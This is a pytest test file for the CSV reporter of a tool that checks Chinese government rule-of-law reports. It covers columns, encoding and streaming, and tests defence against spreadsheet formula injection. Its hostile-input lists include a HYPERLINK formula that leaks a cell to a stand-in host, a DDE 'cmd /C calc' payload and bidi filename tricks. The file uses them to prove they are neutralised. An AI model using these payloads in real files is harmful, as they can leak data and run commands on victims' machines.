"""``csv``: one row for each report and leaf, safe to open in a spreadsheet, the same bytes as ever."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from dataclasses import replace
from pathlib import Path
from runpy import run_path
from types import SimpleNamespace

import pytest

from lawcheck import ElementResult, ReportCard, Status, check
from lawcheck.reporters import RenderOptions
from lawcheck.reporters.csv_ import COLUMNS, FORMULA, render

HERE = Path(__file__).resolve().parent
SEEDS = sorted((HERE.parents[1] / "seeds").glob("*.txt"))
made = SimpleNamespace(**run_path(str(HERE / "cards.py")))

BEGINNINGS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\r\n\x00 =1+1",
    "\ufeff\u202e=1+1",
    "＝1＋1",
]
HOSTILE = [
    *BEGINNINGS,
    'a","b";=1\n"c',
    "甲\r\n乙\u2028丙\x1b[31m\x07",
    "\u202etxt.exe\u2066",
    "\ud800",
    "长" * 40_000,
]


def written(cards: Iterable[ReportCard], lang: str = "zh") -> bytes:
    return b"".join(render(iter(cards), RenderOptions(lang=lang, version=made.VERSION, checklist=made.CHECKLIST)))


def rows(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def poisoned(card: ReportCard, evil: str) -> ReportCard:
    """Put a text into all that is read off a report or a file name."""

    def element(e: ElementResult) -> ElementResult:
        return replace(
            e,
            message=evil,
            evidence=tuple(replace(x, quote=evil, section=evil) for x in e.evidence),
            expected=replace(e.expected, section=evil) if e.expected else None,
            parts=tuple(map(element, e.parts)),
        )

    error = evil if card.error else None
    return replace(card, path=evil, title=evil, body=evil, error=error, elements=tuple(map(element, card.elements)))


@pytest.fixture(scope="module")
def by_hand() -> list[dict[str, str]]:
    return rows(written(made.CARDS))


# -- the table --------------------------------------------------------------------------------------------------


def test_the_names_of_the_columns_are_a_promise() -> None:
    assert COLUMNS[:28] == (
        "path", "sha256", "checklist_id", "checklist_version", "title", "body", "kind", "year", "score", "passed",
        "error_code", "error", "element", "leaf", "leaf_title", "level", "weight", "status", "credit", "band",
        "line", "column", "page", "section", "quote", "message", "advice", "basis",
    )  # fmt: skip


def test_excel_knows_the_encoding_and_every_line_ends_as_the_standard_says() -> None:
    data = written(made.CARDS)
    assert data.startswith(b"\xef\xbb\xbfpath,sha256,")
    assert data.endswith(b"\r\n")
    assert data.count(b"\n") == data.count(b"\r\n") == data.count(b"\r")


def test_there_is_a_row_for_each_leaf_and_parts_name_their_element(by_hand: list[dict[str, str]]) -> None:
    leaves = [(c.path, e.id, leaf.id) for c in made.CARDS for e in c.elements for leaf in e.leaves()]
    assert [(r["path"], r["element"], r["leaf"]) for r in by_hand if r["leaf"]] == leaves
    part = next(r for r in by_hand if r["leaf"] == "enforcement-disclosure")
    assert part["element"] == "three-enforcement-systems"
    assert "three-enforcement-systems" not in {r["leaf"] for r in by_hand}


def test_every_status_of_a_leaf_and_every_column_is_there(by_hand: list[dict[str, str]]) -> None:
    assert {r["status"] for r in by_hand} == {status.value for status in Status} - {"partial"} | {""}
    paged = replace(made.FAILED, elements=tuple(map(on_page_two, made.FAILED.elements)))
    found = rows(written([*made.CARDS, paged]))
    assert {name for row in found for name, value in row.items() if value} == set(COLUMNS)


def on_page_two(element: ElementResult) -> ElementResult:
    return replace(element, evidence=tuple(replace(e, page=2) for e in element.evidence))


def test_values_are_those_of_the_card(by_hand: list[dict[str, str]]) -> None:
    row = next(r for r in by_hand if r["leaf"] == "enforcement-disclosure")
    assert row == {
        "path": "reports/清溪镇.txt",
        "sha256": "0" * 64,
        "checklist_id": "annual-report",
        "checklist_version": "1.2.3",
        "title": "清溪镇2023年法治政府建设年度情况报告",
        "body": "清溪镇",
        "kind": "township",
        "year": "2023",
        "score": "46.2",
        "passed": "false",
        "error_code": "",
        "error": "",
        "element": "three-enforcement-systems",
        "leaf": "enforcement-disclosure",
        "leaf_title": "行政执法公示",
        "level": "expected",
        "weight": "1.0",
        "status": "covered",
        "credit": "1.0",
        "band": "sure",
        "line": "8",
        "column": "3",
        "page": "",
        "section": "二、主要举措和成效",
        "quote": "在公示栏公示行政处罚决定36件",
        "message": "行政执法公示：covered。",
        "advice": "",
        "basis": "ducha-2019",
        "citations": "《督察工作规定》（厅字〔2019〕28号）年度报告一章",
    }


def test_the_best_evidence_is_quoted_wherever_it_stands() -> None:
    part = made.FAILED["enforcement-disclosure"]
    turned = replace(part, evidence=part.evidence[::-1])
    (row,) = rows(written([replace(made.PASSED, elements=(turned,))]))
    assert row["quote"] == "在公示栏公示行政处罚决定36件"


def test_blanks_in_a_quote_are_collapsed(by_hand: list[dict[str, str]]) -> None:
    row = next(r for r in by_hand if r["leaf"] == "first-responsible-person")
    assert row["quote"] == "切实履行第一责任人职责 ，重要工作亲自部署"


def test_what_is_missing_has_the_place_where_it_belongs(by_hand: list[dict[str, str]]) -> None:
    row = next(r for r in by_hand if r["leaf"] == "causes")
    assert (row["line"], row["column"], row["section"], row["quote"]) == ("13", "", "三、存在的不足", "")


def test_a_report_that_could_not_be_read_is_one_row(by_hand: list[dict[str, str]]) -> None:
    (row,) = [r for r in by_hand if r["path"] == made.ERROR.path]
    assert (row["error_code"], row["error"]) == ("empty", made.ERROR.error)
    assert (row["leaf"], row["status"], row["score"], row["passed"]) == ("", "", "", "false")


def test_without_reports_there_is_the_head() -> None:
    assert written([]).decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"


def test_the_language_changes_nothing_and_two_runs_give_the_same_bytes() -> None:
    assert written(made.CARDS) == written(made.CARDS) == written(made.CARDS, lang="en")


def test_rows_are_out_before_the_next_report_is_asked_for() -> None:
    asked = []

    def cards() -> Iterator[ReportCard]:
        for card in made.CARDS:
            asked.append(card.path)
            yield card

    chunks = render(cards(), RenderOptions())
    next(chunks)
    assert asked == []
    assert "清溪镇" in next(chunks).decode()
    assert asked == [made.FAILED.path]


def test_the_samples_come_back_whole() -> None:
    cards = [check(path, name=f"seeds/{path.name}") for path in SEEDS]
    found = rows(written(cards))
    assert len(found) == sum(1 for c in cards for e in c.elements for _ in e.leaves())
    assert {r["path"] for r in found} == {c.path for c in cards}


# -- hostile text -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("evil", HOSTILE, ids=lambda text: ascii(text[:12]))
def test_no_text_becomes_a_formula_or_another_row(evil: str) -> None:
    cards = [poisoned(card, evil) for card in made.CARDS]
    data = written(cards)
    found = rows(data)
    assert len(found) == len(rows(written(made.CARDS)))
    assert data.count(b"\n") == len(found) + 1
    for row in found:
        assert None not in row
        for value in row.values():
            assert not value.startswith((*FORMULA, "\t", "\r", "\n", " "))
            assert not any(ord(c) < 32 or 127 <= ord(c) < 160 or c in "\u202e\u2066\u2028\ufeff" for c in value)


@pytest.mark.parametrize("evil", BEGINNINGS, ids=ascii)
def test_an_apostrophe_goes_before_it_and_nothing_is_lost(evil: str) -> None:
    row = rows(written([poisoned(made.FAILED, evil)]))[0]
    told = "".join(c for c in evil if c.isprintable()).strip()
    assert row["path"] == row["title"] == row["quote"] == row["section"] == f"'{told}"


def test_a_sign_inside_a_text_is_left_alone() -> None:
    row = rows(written([poisoned(made.FAILED, "a=b -1 @c")]))[0]
    assert row["path"] == "a=b -1 @c"


def test_a_long_text_is_not_cut() -> None:
    row = rows(written([poisoned(made.FAILED, "长" * 40_000)]))[0]
    assert len(row["quote"]) == 40_000
